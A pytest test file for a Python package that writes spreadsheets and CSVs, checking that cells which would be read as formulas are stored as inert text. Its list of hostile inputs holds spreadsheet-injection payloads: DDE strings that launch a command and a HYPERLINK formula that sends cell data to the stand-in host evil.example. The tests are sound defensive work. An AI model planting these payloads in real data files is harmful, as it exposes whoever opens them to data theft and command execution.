"""Every spreadsheet and CSV file the package writes holds data, never a formula."""

from __future__ import annotations

import csv
import zipfile

import pandas as pd
import pytest
from openpyxl import load_workbook

import boligmonitor as bm
from boligmonitor.cli import main
from boligmonitor.io.writers import FORMULA_START, csv_text, looks_like_formula

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "Ring\x1bparken\x00",
]


def _table() -> pd.DataFrame:
    return pd.DataFrame({
        "name": HOSTILE,
        "n": [-1, 2, -3, 4, -5, 6, -7],
        "x": [-0.5, 1.5, float("nan"), 2.0, -1e-3, 0.0, 3.0],
        "flag": [True, False, True, False, True, False, True],
        "cat": pd.Categorical(["=a", "b", "=a", "b", "-c", "b", "b"]),
    })


def _sheet_xml(path) -> str:
    with zipfile.ZipFile(path) as zf:
        return zf.read("xl/worksheets/sheet1.xml").decode("utf-8")


@pytest.mark.parametrize("text", HOSTILE[:6])
def test_the_one_rule_knows_every_formula_start(text):
    assert looks_like_formula(text)
    assert csv_text(text).startswith("'")


def test_xlsx_cells_hold_no_formula_and_numbers_stay_numbers(tmp_path):
    path = bm.write_table(_table(), tmp_path / "t.xlsx")
    assert "<f>" not in _sheet_xml(path) and "<f " not in _sheet_xml(path)
    ws = load_workbook(path)["Sheet1"]
    for row in ws.iter_rows(min_row=2):
        name, n, x, flag, cat = row
        assert name.data_type == "s" and cat.data_type == "s"
        assert n.data_type == "n" and isinstance(n.value, int)
        assert x.value is None or x.data_type == "n"
        assert flag.data_type == "b"
        for cell in (name, cat):
            assert cell.quotePrefix == looks_like_formula(cell.value)
    values = [r[0].value for r in ws.iter_rows(min_row=2)]
    assert values[:6] == HOSTILE[:6]  # shown exactly as they are, only never evaluated
    assert values[6] == "Ring\ufffdparken\ufffd"  # what a workbook cannot hold is replaced
    assert ws["B2"].value == -1 and ws["C2"].value == -0.5


def test_csv_cells_that_a_spreadsheet_would_evaluate_get_an_apostrophe(tmp_path):
    path = bm.write_table(_table(), tmp_path / "t.csv")
    with open(path, encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_START[:4]) or _is_number(cell), cell
    names = [r[0] for r in rows[1:]]
    assert names[0] == "'" + HOSTILE[0]
    assert "\x1b" not in path.read_text(encoding="utf-8")
    back = pd.read_csv(path)
    assert back["n"].tolist() == [-1, 2, -3, 4, -5, 6, -7]  # negative numbers stay numbers
    assert back["x"].iloc[0] == -0.5


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_assess_outputs_neutralise_a_hostile_municipality(tmp_path, example):
    ind = example.indicators.copy()
    first = ind["area_id"] == ind["area_id"].iloc[0]
    ind["municipality"] = ind["municipality"].astype(object)
    ind.loc[first, "municipality"] = '=HYPERLINK("http://evil.example","Viborg")'
    ind["area_name"] = ind["area_name"].astype(object)
    ind.loc[first, "area_name"] = "=HYPERLINK(\"http://evil.example\",\"Ellekonebakken\")"
    # The reader rejects nothing here: a formula-looking name is text, written as text.
    data = tmp_path / "ind.parquet"
    ind.to_parquet(data, index=False)
    refs = tmp_path / "refs.csv"
    example.references.to_csv(refs, index=False)
    areas, crit = tmp_path / "areas.xlsx", tmp_path / "criteria.xlsx"
    csv_out = tmp_path / "areas.csv"
    assert main(["assess", "--data", str(data), "--references", str(refs), "--list-year",
                 "2021", "--out", str(areas), "--criteria-out", str(crit)]) == 0
    assert main(["assess", "--data", str(data), "--references", str(refs), "--list-year",
                 "2021", "--out", str(csv_out)]) == 0
    for path in (areas, crit):
        xml = _sheet_xml(path)
        assert "<f>" not in xml and "HYPERLINK" in xml, path
        ws = load_workbook(path).active
        hits = [c for row in ws.iter_rows() for c in row
                if isinstance(c.value, str) and c.value.startswith("=HYPERLINK")]
        assert hits and all(c.data_type == "s" and c.quotePrefix for c in hits)
    with open(csv_out, encoding="utf-8", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert "'" + '=HYPERLINK("http://evil.example","Viborg")' in cells
    assert not [c for c in cells if c.startswith(FORMULA_START) and not _is_number(c)]


def test_a_carriage_return_inside_a_csv_cell_cannot_start_a_new_row(tmp_path):
    table = pd.DataFrame({"name": ["a\r=1+1", "b\n@x"], "n": [1, 2]})
    path = bm.write_table(table, tmp_path / "t.csv")
    with open(path, encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows == [["name", "n"], ["a\r=1+1", "1"], ["b\n@x", "2"]]


def test_a_workbook_written_twice_is_the_same_bytes_whatever_the_clock(tmp_path, monkeypatch):
    import time

    first = bm.write_table(_table(), tmp_path / "a.xlsx").read_bytes()
    later = time.time() + 3 * 86400
    monkeypatch.setattr(time, "time", lambda: later)  # what zipfile stamps its entries with
    second = bm.write_table(_table(), tmp_path / "b.xlsx").read_bytes()
    assert first == second
    with zipfile.ZipFile(tmp_path / "b.xlsx") as z:
        assert {i.date_time for i in z.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = z.read("docProps/core.xml").decode("utf-8")
    assert "1980-01-01T00:00:00Z" in core
